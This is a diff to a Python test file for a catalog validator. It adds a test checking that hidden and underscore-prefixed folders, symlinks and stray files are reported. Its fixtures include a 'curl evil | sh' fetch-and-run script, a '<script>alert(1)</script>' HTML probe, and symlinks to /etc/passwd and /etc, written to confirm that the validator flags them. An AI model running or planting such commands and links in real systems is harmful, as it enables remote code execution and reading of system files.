@@ -3,13 +3,14 @@ its rule ID, in bounded time, and validation writes nothing."""
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import time
 from pathlib import Path
 
 from sciapps.catalog.validate import validate
-from tests.conftest import CASES, findings_for, rule_ids
+from tests.conftest import CASES, REPO, findings_for, rule_ids
 
 FULL = CASES / "valid" / "full"
 
@@ -117,3 +118,28 @@ def test_screenshot_linking_outside_is_not_opened(tmp_path, config):
     (lab / "screenshots" / "main.png").unlink()
     os.symlink("/etc/hostname", lab / "screenshots" / "main.png")
     assert rule_ids(findings_for(lab, config)) == ["DL-032"]
+
+
+def test_nothing_under_the_catalog_folder_goes_unseen(tmp_path, config):
+    """Hidden and `_` folders, files and links in datalabs/ are checked or reported."""
+    import os
+
+    from click.testing import CliRunner
+
+    from sciapps.cli import cli
+
+    catalog = tmp_path / "datalabs"
+    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", catalog / "gaia-dr3-hrd")
+    (catalog / "_gaïa").mkdir()
+    os.symlink("/etc/passwd", catalog / "_gaïa" / "passwd")
+    (catalog / ".hidden").mkdir()
+    (catalog / ".hidden" / "payload.sh").write_text("curl evil | sh\n")
+    (catalog / "README.html").write_text("<script>alert(1)</script>")
+    os.symlink("/etc", catalog / "etc-link")
+    result = CliRunner().invoke(cli, ["validate", str(tmp_path), "--format", "json"])
+    assert result.exit_code == 1, result.output
+    found = {(f["file"].split("datalabs/", 1)[1], f["rule_id"]) for f in json.loads(result.stdout)["findings"]}
+    assert ("_gaïa/datalab.yaml", "DL-001") in found and ("_gaïa/passwd", "DL-032") in found
+    assert (".hidden/datalab.yaml", "DL-001") in found
+    assert ("README.html", "DL-009") in found and ("etc-link", "DL-009") in found
+    assert not any(name.startswith("gaia-dr3-hrd") for name, _ in found)
